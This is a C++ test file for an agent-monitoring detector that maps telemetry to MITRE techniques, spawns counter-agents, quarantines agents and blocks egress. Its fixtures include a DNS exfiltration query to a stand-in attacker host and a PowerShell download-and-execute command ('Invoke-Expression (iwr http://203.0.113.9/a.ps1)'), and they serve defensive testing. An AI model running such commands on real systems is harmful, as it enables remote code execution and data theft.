// The detector end to end on real components: an in-memory SQLite registry and
// detection store, the event bus, the shipped policies, playbooks and catalogue.
// Only the alert webhook is replaced, by a sink that records what it was sent.
#include <gtest/gtest.h>

#include <atomic>
#include <latch>
#include <mutex>
#include <thread>

#include "detect/detect.h"
#include "mesh/mesh.h"
#include "registry/registry.h"
#include "registry/service.h"

namespace genesis::detect {
namespace {

using core::Value;

class RecordingSink : public AlertSink {
 public:
  void send(const Value& alert) override {
    std::lock_guard lock(mu_);
    alerts_.push_back(alert);
  }
  std::vector<Value> alerts() {
    std::lock_guard lock(mu_);
    return alerts_;
  }

 private:
  std::mutex mu_;
  std::vector<Value> alerts_;
};

class DetectorTest : public testing::Test {
 protected:
  void SetUp() override {
    store_ = registry::open_sqlite_store(":memory:").value();
    reg_ = std::make_unique<registry::Registry>(*store_, bus_);
    sub_ = bus_.subscribe([this](const mesh::Event& e) {
      std::lock_guard lock(mu_);
      published_.push_back(e);
    });
    auto sink = std::make_unique<RecordingSink>();
    sink_ = sink.get();
    DetectorOptions options;
    options.now_ms = [this] { return now_; };
    auto d = Detector::create(*reg_, std::move(sink), options);
    ASSERT_TRUE(d.ok()) << d.error().to_string();
    detector_ = std::move(*d);
    registry::NewAgent a;
    a.label = "worker";
    a.mem_state = Value(core::Object{{"task", "ingest"}});
    auto agent = reg_->spawn_one("default", a);
    ASSERT_TRUE(agent.ok());
    agent_ = *agent;
    registry::NewEvent ev{registry::CognitionType::kPerceive, Value(core::Object{{"saw", "x"}}), std::nullopt};
    ASSERT_TRUE(reg_->append_events("default", agent_.id, std::span(&ev, 1)).ok());
  }

  std::string event(const std::string& telemetry_json) {
    return R"({"agent_id":")" + agent_.id + R"(","telemetry":)" + telemetry_json + "}";
  }

  std::vector<mesh::Event> published(const std::string& type) {
    std::lock_guard lock(mu_);
    std::vector<mesh::Event> out;
    for (const auto& e : published_) {
      if (e.type == type) out.push_back(e);
    }
    return out;
  }

  std::vector<registry::Agent> children() {
    registry::AgentQuery q;
    q.subtree_of = agent_.id;
    q.include_deleted = true;
    auto page = store_->list("default", q);
    std::vector<registry::Agent> out;
    for (auto& a : page->items) {
      if (a.id != agent_.id) out.push_back(a);
    }
    return out;
  }

  std::vector<registry::CognitionEvent> cognition(const std::string& id) {
    registry::EventQuery q;
    auto page = store_->list_events("default", id, q);
    return page->items;
  }

  int64_t now_ = 1'795'000'000'000;
  mesh::EventBus bus_;
  std::unique_ptr<registry::Store> store_;
  std::unique_ptr<registry::Registry> reg_;
  std::unique_ptr<mesh::EventBus::Subscription> sub_;
  std::mutex mu_;
  std::vector<mesh::Event> published_;
  RecordingSink* sink_ = nullptr;
  std::unique_ptr<Detector> detector_;
  registry::Agent agent_;
};

constexpr const char* kDnsExfil =
    R"({"event":"dns","dns":{"question":{"name":"4a7f0102c3e5b9aa0d11f23e6c7b8d9e0f1a2b3c4d5e6f70819a.t.attacker.example","type":"CNAME"}}})";

TEST_F(DetectorTest, DnsExfiltrationSpawnsANetworkIsolatorThatDeniesEgress) {
  IngestResult r = detector_->ingest("default", event(kDnsExfil));
  ASSERT_TRUE(r.rejected.empty()) << r.rejected[0].error.to_string();
  ASSERT_TRUE(r.response_errors.empty()) << r.response_errors[0].to_string();
  ASSERT_EQ(r.detections.size(), 1u);
  const Detection& d = r.detections[0];
  EXPECT_EQ(d.technique, "T1071.004");
  EXPECT_EQ(d.tactic, "command-and-control");
  EXPECT_EQ(d.agent_id, agent_.id);
  EXPECT_EQ(d.rules, std::vector<std::string>{"dns_long_high_entropy_label"});
  ASSERT_TRUE(d.counter_agent_id.has_value());

  // The counter-agent: a child of A, from the playbook, urgent, sandboxed.
  auto kids = children();
  ASSERT_EQ(kids.size(), 1u);
  const registry::Agent& ca = kids[0];
  EXPECT_EQ(ca.id, *d.counter_agent_id);
  EXPECT_EQ(ca.parent_id, agent_.id);
  EXPECT_EQ(ca.path, agent_.path + ".network-isolator-T1071_004");
  EXPECT_EQ(ca.policy, "deny:egress");
  EXPECT_EQ(ca.emotion.label, "URGENT");
  EXPECT_DOUBLE_EQ(ca.emotion.pleasure, 0.1);
  EXPECT_DOUBLE_EQ(ca.emotion.arousal, 0.9);
  EXPECT_DOUBLE_EQ(ca.emotion.dominance, 0.8);
  ASSERT_EQ(ca.goals.size(), 2u);
  EXPECT_EQ(ca.goals[0].id, "block-dns");
  EXPECT_EQ(ca.goals[0].ttl, 3600);
  EXPECT_EQ(ca.goals[1].id, "alert-soc");
  const Value* sandbox = ca.mem_state.find("counter_agent")->find("sandbox");
  ASSERT_NE(sandbox, nullptr);
  EXPECT_EQ(core::to_json(*sandbox), R"({"network":false,"filesystem":false,"max_memory_bytes":67108864})");

  // Broadcast: detection, counter_agent.spawn, alert; the alert reached the webhook sink.
  ASSERT_EQ(published("detection").size(), 1u);
  ASSERT_EQ(published("counter_agent.spawn").size(), 1u);
  EXPECT_EQ(published("counter_agent.spawn")[0].data.find("technique")->as_string(), "T1071.004");
  EXPECT_EQ(published("alert").size(), 1u);
  ASSERT_EQ(sink_->alerts().size(), 1u);
  EXPECT_EQ(sink_->alerts()[0].find("technique_name")->as_string(), "DNS");

  // Goals ran: act events of the counter-agent and response records.
  int acts = 0;
  for (const auto& e : cognition(ca.id)) acts += e.type == registry::CognitionType::kAct;
  EXPECT_EQ(acts, 2);
  auto actions = store_->actions("default", d.id);
  ASSERT_TRUE(actions.ok());
  ASSERT_EQ(actions->size(), 2u);
  EXPECT_EQ((*actions)[0].action, "block-dns");
  EXPECT_EQ((*actions)[0].status, "done");
  EXPECT_EQ((*actions)[1].action, "alert-soc");

  // A's next egress is denied, visibly; its other telemetry still flows.
  IngestResult next = detector_->ingest(
      "default", event(R"({"event":"network.connection","destination":{"ip":"93.184.216.34","port":443}})"));
  EXPECT_EQ(next.accepted, 0u);
  ASSERT_EQ(next.denied.size(), 1u);
  EXPECT_EQ(next.denied[0].decision.decision, "deny");
  EXPECT_EQ(published("decision").size(), 1u);
  auto mesh = detector_->check_mesh_message("default", agent_.id, "ping");
  ASSERT_FALSE(mesh.ok());
  EXPECT_EQ(mesh.error().code, "forbidden");
  EXPECT_EQ(store_->decisions("default", agent_.id)->size(), 2u);
  IngestResult local = detector_->ingest(
      "default", event(R"({"event":"file","action":"create","file":{"path":"/srv/app/report.csv"}})"));
  EXPECT_EQ(local.accepted, 1u);
  EXPECT_TRUE(local.denied.empty());

  // The denial ends when the goal's ttl runs out.
  now_ += 3601 * 1000;
  EXPECT_FALSE(detector_->egress_denied("default", agent_.id).has_value());
}

TEST_F(DetectorTest, AtMostOneLiveCounterAgentPerAgentAndTechnique) {
  IngestResult first = detector_->ingest("default", event(kDnsExfil));
  ASSERT_EQ(first.counter_agents.size(), 1u);
  now_ += 4000 * 1000;  // egress allowed again, so the next lookup is evaluated
  IngestResult second = detector_->ingest(
      "default", event(R"({"event":"dns.response","domain":"a.suspicious.example","answer_count":40})"));
  ASSERT_EQ(second.detections.size(), 1u);
  EXPECT_TRUE(second.counter_agents.empty());
  EXPECT_EQ(second.detections[0].counter_agent_id, first.detections[0].counter_agent_id);
  EXPECT_EQ(children().size(), 1u);
  // Once the counter-agent is gone, a new attack gets a new one.
  ASSERT_TRUE(reg_->remove("default", *first.detections[0].counter_agent_id, false).ok());
  IngestResult third = detector_->ingest("default", event(kDnsExfil));
  EXPECT_EQ(third.counter_agents.size(), 1u);
}

// Many sensors at once: the same attack on one agent from 8 threads still gets
// one counter-agent, and every other agent attacked meanwhile gets its own.
TEST_F(DetectorTest, ConcurrentAttacksKeepOneCounterAgentPerAgentAndTechnique) {
  constexpr int kThreads = 8, kRepeats = 5;
  std::vector<registry::Agent> others;
  for (int i = 0; i < kThreads; ++i) {
    registry::NewAgent a;
    a.label = "sensor" + std::to_string(i);
    auto spawned = reg_->spawn_one("default", a);
    ASSERT_TRUE(spawned.ok());
    others.push_back(*spawned);
  }
  const std::string powershell =
      R"j({"event":"exec.powershell","command":"Invoke-Expression (iwr http://203.0.113.9/a.ps1)"})j";
  std::atomic<int> spawned{0}, errors{0};
  std::vector<std::thread> threads;
  std::latch start(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      start.arrive_and_wait();  // all at once, so the responses really overlap
      for (int i = 0; i < kRepeats; ++i) {
        for (const std::string& body :
             {event(powershell), R"({"agent_id":")" + others[t].id + R"(","telemetry":)" + kDnsExfil + "}"}) {
          IngestResult r = detector_->ingest("default", body);
          spawned += static_cast<int>(r.counter_agents.size());
          errors += static_cast<int>(r.response_errors.size() + r.rejected.size());
        }
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(errors.load(), 0);
  EXPECT_EQ(spawned.load(), 1 + kThreads);
  EXPECT_EQ(children().size(), 1u);
  auto records = store_->counter_agents("default", agent_.id);
  ASSERT_TRUE(records.ok());
  ASSERT_EQ(records->size(), 1u);
  EXPECT_EQ((*records)[0].technique, "T1059.001");
  for (const auto& other : others) {
    auto own = store_->counter_agents("default", other.id);
    ASSERT_TRUE(own.ok());
    ASSERT_EQ(own->size(), 1u) << other.id;
    EXPECT_EQ((*own)[0].technique, "T1071.004");
    EXPECT_TRUE(detector_->egress_denied("default", other.id).has_value());
  }
  // Every detection of A points at the one counter-agent.
  DetectionQuery q;
  q.agent_id = agent_.id;
  auto page = store_->list_detections("default", q);
  ASSERT_TRUE(page.ok());
  EXPECT_EQ(page->items.size(), static_cast<size_t>(kThreads * kRepeats));
  for (const auto& d : page->items) EXPECT_EQ(d.counter_agent_id, (*records)[0].id);
}

// A response's records are written all or nothing: a failing row (here a
// duplicate evidence id) leaves no counter-agent record, containment or action.
TEST_F(DetectorTest, ResponseRecordIsAllOrNothing) {
  auto record = [&](const ResponseRecord& r) {
    return store_->transact("default", [&](registry::Transaction& tx) { return tx.record_response(r); });
  };
  Detection det;
  det.id = "det-1";
  det.tenant_id = "default";
  det.agent_id = agent_.id;
  det.technique = "T1055";
  det.event = Value::object();
  ASSERT_TRUE(store_->transact("default", [&](registry::Transaction& tx) {
    return tx.add_detections({det});
  }).ok());
  ResponseRecord r;
  r.counter_agent = {"ca-1", "default", agent_.id, "T1055", "det-1", "process-monitor",
                     "quarantine", Value::object(), now_};
  r.containments.push_back({"default", agent_.id, "quarantine", "ca-1", "T1055", now_, now_ + 1000});
  Evidence e;
  e.id = "ev-1";
  e.tenant_id = "default";
  e.agent_id = agent_.id;
  e.detection_id = "det-1";
  e.counter_agent_id = "ca-1";
  e.snapshot = Value::object();
  r.evidence = {e, e};
  r.actions.push_back({"default", "ca-1", agent_.id, "det-1", "quarantine", "done", Value::object(), now_});
  auto st = record(r);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("evidence"), std::string::npos) << st.error().message;
  EXPECT_TRUE(store_->counter_agents("default", agent_.id)->empty());
  EXPECT_TRUE(store_->evidence("default", agent_.id)->empty());
  EXPECT_TRUE(store_->actions("default", "det-1")->empty());
  EXPECT_TRUE(store_->active_containments(now_)->empty());
  // The same record without the duplicate goes in whole.
  r.evidence.pop_back();
  ASSERT_TRUE(record(r).ok());
  EXPECT_EQ(store_->get_detection("default", "det-1")->counter_agent_id, "ca-1");
  EXPECT_EQ(store_->counter_agents("default", agent_.id)->size(), 1u);
  EXPECT_EQ(store_->evidence("default", agent_.id)->size(), 1u);
  EXPECT_EQ(store_->actions("default", "det-1")->size(), 1u);
  EXPECT_EQ(store_->active_containments(now_)->size(), 1u);
}

TEST_F(DetectorTest, ProcessInjectionKillsTheAgentAfterAForensicDump) {
  IngestResult r = detector_->ingest(
      "default", event(R"({"event":"process.inject","source_process":"loader.exe","target_process":"explorer.exe"})"));
  ASSERT_EQ(r.detections.size(), 1u);
  EXPECT_EQ(r.detections[0].technique, "T1055");
  ASSERT_EQ(r.counter_agents.size(), 1u);
  EXPECT_EQ(r.counter_agents[0].image, "process-monitor");
  EXPECT_EQ(r.counter_agents[0].policy, "quarantine");
  // kill-process: A is soft-deleted, its subtree (the counter-agent) kept.
  auto a = store_->get("default", agent_.id, /*include_deleted=*/true);
  ASSERT_TRUE(a.ok());
  EXPECT_TRUE(a->deleted_at_ms.has_value());
  EXPECT_TRUE(store_->get("default", r.counter_agents[0].id).ok());
  // forensic-dump ran first: the evidence holds A's memory and cognition.
  auto ev = store_->evidence("default", agent_.id);
  ASSERT_TRUE(ev.ok());
  ASSERT_EQ(ev->size(), 1u);
  const Value& snap = (*ev)[0].snapshot;
  EXPECT_EQ(snap.find("mem_state")->find("task")->as_string(), "ingest");
  EXPECT_EQ(snap.find("events")->as_array().size(), 1u);
  auto actions = store_->actions("default", r.detections[0].id);
  ASSERT_EQ(actions->size(), 3u);  // policy:quarantine, forensic-dump, kill-process
  EXPECT_EQ((*actions)[1].action, "forensic-dump");
  EXPECT_EQ((*actions)[2].action, "kill-process");
  EXPECT_EQ((*actions)[2].status, "done");
}

TEST_F(DetectorTest, PowerShellAbuseQuarantinesTheAgent) {
  IngestResult r = detector_->ingest(
      "default", event(R"j({"event":"exec.powershell","command":"Invoke-Expression (iwr http://203.0.113.9/a.ps1)"})j"));
  ASSERT_EQ(r.detections.size(), 1u);
  EXPECT_EQ(r.detections[0].technique, "T1059.001");
  ASSERT_EQ(r.counter_agents.size(), 1u);
  EXPECT_EQ(r.counter_agents[0].image, "script-sentinel");
  // quarantine: no children, no state changes, no cognition for A.
  registry::NewAgent child;
  child.label = "helper";
  child.parent_id = agent_.id;
  auto spawned = reg_->spawn_one("default", child);
  ASSERT_FALSE(spawned.ok());
  EXPECT_EQ(spawned.error().code, "forbidden");
  registry::AgentPatch patch;
  patch.mem_state = Value::object();
  EXPECT_EQ(reg_->update("default", agent_.id, patch).error().code, "forbidden");
  registry::NewEvent ev{registry::CognitionType::kPlan, Value::object(), std::nullopt};
  EXPECT_EQ(reg_->append_events("default", agent_.id, std::span(&ev, 1)).error().code, "forbidden");
  EXPECT_EQ(store_->evidence("default", agent_.id)->size(), 1u);
}

TEST_F(DetectorTest, BenignTelemetryYieldsNothing) {
  std::string body;
  for (const char* t : {
           R"({"event":"dns","dns":{"question":{"name":"www.example.com","type":"A"},"answers_count":1}})",
           R"({"event":"dns.response","domain":"cdn.example.net","answer_count":3})",
           R"({"event":"process.start","process":{"executable":"C:\\Windows\\System32\\schtasks.exe","command_line":"schtasks /query /fo LIST"}})",
           R"({"event":"process.inject","source_process":"chrome.exe","target_process":"chrome.exe"})",
           R"({"event":"exec.powershell","command":"Get-ChildItem C:\\Users"})",
           R"({"event":"network.connection","destination":{"ip":"140.82.112.3","port":443}})",
       }) {
    body += event(t) + "\n";
  }
  IngestResult r = detector_->ingest("default", body);
  EXPECT_EQ(r.accepted, 6u);
  EXPECT_TRUE(r.rejected.empty());
  EXPECT_TRUE(r.detections.empty());
  EXPECT_TRUE(r.counter_agents.empty());
  EXPECT_TRUE(published("detection").empty());
  EXPECT_TRUE(children().empty());
}

TEST_F(DetectorTest, BatchKeepsGoodEventsAndReportsBadLinesAndUnknownAgents) {
  std::string body = event(R"({"event":"exec.powershell","command":"Get-Date"})") + "\n" +
                     "{broken\n" +
                     R"({"agent_id":"00000000-0000-4000-8000-000000000000","telemetry":{"event":"exec.powershell","command":"x"}})" +
                     "\n" + event(R"({"event":"exec.powershell"})") + "\n";
  IngestResult r = detector_->ingest("default", body);
  EXPECT_EQ(r.accepted, 1u);
  ASSERT_EQ(r.rejected.size(), 3u);
  EXPECT_EQ(r.rejected[0].line, 2u);
  EXPECT_EQ(r.rejected[1].line, 3u);
  EXPECT_EQ(r.rejected[1].error.code, "not_found");
  EXPECT_EQ(r.rejected[2].line, 4u);
  EXPECT_EQ(r.rejected[2].error.where, "telemetry.command");
}

TEST_F(DetectorTest, BrokenPolicyIsRefusedAndTheRunningSetStays) {
  auto bad = detector_->put_policy("custom.rego", "package mitre\n\ndetections contains x if {\n");
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().code, "rego_parse_error");
  EXPECT_EQ(detector_->policies().count("custom.rego"), 0u);
  IngestResult still = detector_->ingest("default", event(kDnsExfil));
  EXPECT_EQ(still.detections.size(), 1u);

  // A good one is added and used at once.
  auto good = detector_->put_policy("custom.rego", R"(package mitre

detections contains {"technique": "T1490", "tactic": "impact", "rule": "custom_backup_wipe"} if {
	input.telemetry.event == "file"
	input.telemetry.action == "delete"
	endswith(input.telemetry.file.path, ".vbk")
}
)");
  ASSERT_TRUE(good.ok()) << good.error().to_string();
  IngestResult r = detector_->ingest(
      "default", event(R"({"event":"file","action":"delete","file":{"path":"D:\\Backups\\job1.vbk"}})"));
  ASSERT_EQ(r.detections.size(), 1u);
  EXPECT_EQ(r.detections[0].rules, std::vector<std::string>{"custom_backup_wipe"});
}

TEST_F(DetectorTest, ContainmentSurvivesARestart) {
  ASSERT_EQ(detector_->ingest("default", event(kDnsExfil)).counter_agents.size(), 1u);
  detector_.reset();
  DetectorOptions options;
  options.now_ms = [this] { return now_; };
  // (A second detector on the same registry would add a second guard; that is harmless here.)
  auto again = Detector::create(*reg_, nullptr, options);
  ASSERT_TRUE(again.ok());
  EXPECT_TRUE((*again)->egress_denied("default", agent_.id).has_value());
}

TEST_F(DetectorTest, DetectionsAreListedWithFilters) {
  detector_->ingest("default", event(kDnsExfil));
  now_ += 10'000;
  detector_->ingest("default", event(R"({"event":"exec.powershell","command":"Invoke-Expression $x"})"));
  DetectionQuery q;
  auto all = store_->list_detections("default", q);
  ASSERT_TRUE(all.ok());
  ASSERT_EQ(all->items.size(), 2u);
  EXPECT_EQ(all->items[0].technique, "T1059.001");  // newest first
  q.technique = "T1071";  // a parent technique matches its sub-techniques
  EXPECT_EQ(store_->list_detections("default", q)->items.size(), 1u);
  q.technique.reset();
  q.since_ms = now_;
  EXPECT_EQ(store_->list_detections("default", q)->items.size(), 1u);
  q.since_ms.reset();
  q.limit = 1;
  auto page = store_->list_detections("default", q);
  ASSERT_TRUE(page->next_cursor.has_value());
  q.cursor = page->next_cursor;
  EXPECT_EQ(store_->list_detections("default", q)->items[0].technique, "T1071.004");
}

}  // namespace
}  // namespace genesis::detect
